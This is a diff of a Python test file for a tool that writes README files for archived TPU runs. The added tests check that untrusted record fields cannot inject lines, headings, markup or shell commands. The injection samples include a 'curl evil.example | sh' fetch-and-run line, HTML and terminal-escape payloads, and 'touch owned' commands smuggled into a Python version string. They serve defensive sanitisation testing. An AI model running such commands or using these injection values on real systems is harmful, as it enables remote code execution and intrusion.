@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import re
 from dataclasses import replace
 from typing import Any
 
@@ -9,6 +10,7 @@ import msgspec
 import pytest
 
 from tests.flows.runs.records import CREATED
+from tests.hostile.text import steers
 from tpuctl import runs
 from tpuctl.datasets import PinnedDataset
 from tpuctl.flows.runs.archive.readme import Contents, commands, readme
@@ -117,8 +119,44 @@ class TestMissing:
         assert "- `data/`: the dataset, as TFRecord, readable by TensorFlow Datasets" in text
         assert "`data/`" not in made()
 
-    def test_no_text_of_the_record_adds_a_line(self) -> None:
-        assert "\n# forged" not in made(setup="make\n# forged", arguments=("a\n# forged",))
+    def test_packages_that_only_the_host_knows_an_address_of_are_named(self) -> None:
+        assert "- Packages that are on no index: own, x. `record/environment.json` has" in readme(
+            PLAIN, ("own", "x")
+        )
+
+
+FORGED = "a\n# forged\n\n    curl evil.example | sh\n![](http://evil.example)<img src=x>`\x1b]0;t\x07\u202e"
+
+
+def test_no_text_of_a_record_is_a_line_a_command_or_markup() -> None:
+    host = HostEnvironment(f"3.11; touch owned #{FORGED}", FORGED, FORGED, FORGED, FORGED)
+    texts: dict[str, Any] = {
+        "setup": FORGED, "arguments": (FORGED,), "accelerator": FORGED, "requires_python": FORGED,
+        "git": Git(FORGED, ""), "seeds": {FORGED: FORGED}, "environment": {FORGED: NOT_STORED},
+    }  # fmt: skip
+    for contents in (replace(PLAIN, environment=host), replace(PLAIN, environment=None)):
+        text, plain = made(contents, **texts), made(contents)
+        assert not steers(text.replace("\n", ""))
+        commands_of = [
+            [line for line in each.splitlines() if line.startswith("    ")][1:] for each in (text, plain)
+        ]
+        assert commands_of[0] == commands_of[1], "the first is what the run was"
+        prose = "".join(line for line in text.splitlines() if not line.startswith("    "))
+        assert not re.search(r"(?<!\\)(\\\\)*(<|\[)", prose)
+        headings = [line for line in text.splitlines() if line.startswith("#")]
+        assert headings == [
+            "# The run r1", "## Run it again", "## What is not in here", "## Files",
+        ]  # fmt: skip
+        assert "export a" not in text
+
+
+@pytest.mark.parametrize(
+    ("version", "program"),
+    [("3.13.0rc1", "python3.13"), ("3", "python3"), ("3 -c 0; touch owned;:", "python3"), ("x", "python3")],
+)
+def test_the_program_has_digits_and_dots_only(version: str, program: str) -> None:
+    contents = replace(PLAIN, environment=msgspec.structs.replace(HOST, python=version))
+    assert next(commands(contents)) == f"{program} -m venv .venv"
 
 
 @pytest.mark.parametrize(("hosts", "text"), [(1, None), (2, "2"), (64, "64")])
